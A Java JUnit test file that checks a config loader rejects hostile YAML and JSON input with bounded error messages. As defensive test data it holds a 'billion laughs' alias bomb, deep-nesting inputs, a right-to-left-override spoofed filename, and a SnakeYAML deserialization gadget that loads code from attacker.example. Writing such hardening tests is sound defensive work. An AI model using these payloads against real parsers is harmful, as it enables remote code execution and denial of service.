package dev.invalidator.config;

import static dev.invalidator.config.Configs.json;
import static dev.invalidator.config.Configs.web;
import static dev.invalidator.config.Configs.yaml;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;

import java.time.Duration;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;

/** Input written to hurt: every case ends in one bounded, single-line message, quickly. */
class HostileConfigTest {

    private static final String LONG = "A".repeat(10_000);
    private static final String SHOWN = "\"" + "A".repeat(59) + "…\" (10000 characters)";

    @Nested
    class VeryLongValues {

        // YAML caps implicit keys at 1024 characters, so long keys reach the checks only in JSON.
        @Test
        void aLongAliasIsShownShortened() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"" + LONG + "\": {}}}"))
                    .hasMessage("invalidator.json: distributions." + SHOWN + ": not a valid alias — use 1 to 32"
                            + " lower-case letters, digits, \"-\" or \"_\", starting with a letter or digit, e.g. web");
        }

        @Test
        void aLongIdIsShownShortened() {
            assertThatThrownBy(() -> yaml(web("id: " + LONG + ", channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.id: " + SHOWN + " is not a CloudFront"
                            + " distribution id — ids are 8 to 32 upper-case letters and digits starting with a letter,"
                            + " e.g. E1WEBEXAMPLE");
        }

        @Test
        void aLongChannelIdIsNotTakenForAnId() {
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, channels: [C" + LONG + "], users: [\"*\"]")))
                    .hasMessageStartingWith("invalidator.yml: distributions.web.channels[0]: \"CAAAA")
                    .hasMessageContaining("(10001 characters) is not a channel id");
        }

        @Test
        void aLongRoleArnIsNotTakenForAnArn() {
            String arn = "arn:aws:iam::111122223333:role/" + "a".repeat(10_000);
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, channels: [C0OPS], users: [\"*\"], roleArn: " + arn)))
                    .hasMessageContaining("(10031 characters) is not an IAM role ARN");
        }

        @Test
        void aLongUnknownKeyIsShownShortened() {
            assertThatThrownBy(() -> json("{\"distributions\": {}, \"" + LONG + "\": 1}"))
                    .hasMessage("invalidator.json: " + SHOWN + ": unknown key — the keys here are distributions,"
                            + " polling, limits, groups, confirm and verify");
        }

        @Test
        void aLongNumberIsShownShortened() {
            assertThatThrownBy(
                            () -> yaml(Configs.validWith("limits: {maxPathsPerRequest: " + "9".repeat(10_000) + "}")))
                    .hasMessageContaining("(10000 characters)")
                    .hasMessageStartingWith("invalidator.yml: limits.maxPathsPerRequest: ");
        }

        @Test
        void textOverOneMebibyteIsRejectedWithoutParsing() {
            assertThatThrownBy(() -> yaml("# " + "x".repeat(1 << 20)))
                    .hasMessage("invalidator.yml: is larger than 1024 KiB — a config is a few kilobytes; check that"
                            + " this is the right file");
        }
    }

    @Nested
    class StrangeCharacters {

        @Test
        void aUnicodeMisspellingStillGetsASuggestion() {
            assertThatThrownBy(() -> yaml(web("id: E1WEBEXAMPLE, chännels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.\"chännels\": unknown key — did you mean"
                            + " \"channels\"?");
        }

        @Test
        void aKeyInAnotherScriptIsQuoted() {
            assertThatThrownBy(() -> yaml("дистрибуции: {}\n"))
                    .hasMessage("invalidator.yml: \"дистрибуции\": unknown key — the keys here are distributions,"
                            + " polling, limits, groups, confirm and verify");
        }

        @Test
        void anEmojiIsNotAnAlias() {
            assertThatThrownBy(() -> yaml("distributions: {\"🚀\": " + Configs.VALID_WEB + "}"))
                    .hasMessageStartingWith("invalidator.yml: distributions.\"🚀\": not a valid alias");
        }

        @Test
        void aSlackBroadcastIsNotAnAliasInJsonEither() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"<!channel>\": {\"id\": \"E1WEBEXAMPLE\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.\"<!channel>\": not a valid alias");
        }

        @Test
        void lineBreaksInAKeyAreSpelledOutSoTheMessageStaysOnOneLine() {
            assertThatThrownBy(() -> json("{\"distributions\": {}, \"a\\nb\\r\\nc\": 1}"))
                    .hasMessage("invalidator.json: \"a\\nb\\r\\nc\": unknown key — the keys here are distributions,"
                            + " polling, limits, groups, confirm and verify");
        }

        @Test
        void invisibleCharactersInAValueAreSpelledOut() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"web\": {\"id\": \"E1WEB\\u202Egnp.exe\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.web.id: \"E1WEB\\u202Egnp.exe\" is not a"
                            + " CloudFront distribution id");
        }

        @Test
        void aQuoteInAValueIsEscaped() {
            assertThatThrownBy(() -> json("{\"distributions\": {\"web\": {\"id\": \"E1\\\"WEB\"}}}"))
                    .hasMessageStartingWith("invalidator.json: distributions.web.id: \"E1\\\"WEB\" is not a CloudFront"
                            + " distribution id");
        }
    }

    @Nested
    class ParserAbuse {

        private String billionLaughs() {
            StringBuilder yaml = new StringBuilder("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
            for (int level = 1; level <= 9; level++) {
                String previous = "*a" + (level - 1);
                yaml.append("a")
                        .append(level)
                        .append(": &a")
                        .append(level)
                        .append(" [")
                        .append(IntStream.range(0, 9).mapToObj(i -> previous).collect(Collectors.joining(", ")))
                        .append("]\n");
            }
            return yaml.toString();
        }

        @Test
        void aYamlAliasBombIsRejectedAtTheFirstAliasWithoutExpandingIt() {
            String bomb = billionLaughs();
            assertTimeoutPreemptively(
                    Duration.ofSeconds(10),
                    () -> assertThatThrownBy(() -> yaml(bomb))
                            .hasMessage(
                                    "invalidator.yml: a1[0]: uses the YAML alias *a0 (line 2, column 10) but aliases are"
                                            + " not supported — write the value out in full"));
        }

        @Test
        void deepNestingStopsAtTheParsersDepthLimit() {
            String deep = "[".repeat(100_000) + "]".repeat(100_000);
            assertThatThrownBy(() -> yaml(deep))
                    .hasMessage("invalidator.yml: the parser stopped at a safety limit: Document nesting depth (1001)"
                            + " exceeds the maximum allowed (1000) — this does not look like an Invalidator config");
        }

        @Test
        void deepNestingInJsonStopsTheSameWay() {
            String deep = "[".repeat(100_000) + "]".repeat(100_000);
            assertThatThrownBy(() -> json(deep))
                    .hasMessage("invalidator.json: the parser stopped at a safety limit: Document nesting depth (1001)"
                            + " exceeds the maximum allowed (1000) — this does not look like an Invalidator config");
        }

        @Test
        void javaTypeTagsDoNotConstructObjects() {
            assertThatThrownBy(
                            () -> yaml(
                                    web(
                                            "id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                                                    + " [[!!java.net.URL [\"http://attacker.example/\"]]]], channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.id: expected text such as E1WEBEXAMPLE, found a"
                            + " list");
        }

        @Test
        void aMergeKeyIsAnUnknownKey() {
            assertThatThrownBy(() -> yaml(web("<<: {id: E1WEBEXAMPLE}, channels: [C0OPS], users: [\"*\"]")))
                    .hasMessage("invalidator.yml: distributions.web.\"<<\": unknown key — the keys here are id,"
                            + " channels, users, roleArn, approvers, approvalFor and verify");
        }

        @Test
        void tenThousandIdsLoadAsAnOrdinaryList() throws ConfigException {
            String users = IntStream.range(0, 10_000)
                    .mapToObj(i -> "U" + (100_000 + i))
                    .collect(Collectors.joining(", "));
            assertThat(yaml(web("id: E1WEBEXAMPLE, channels: [C0OPS], users: [" + users + "]"))
                            .byAlias("web")
                            .map(d -> d.users().ids().size()))
                    .contains(10_000);
        }
    }
}
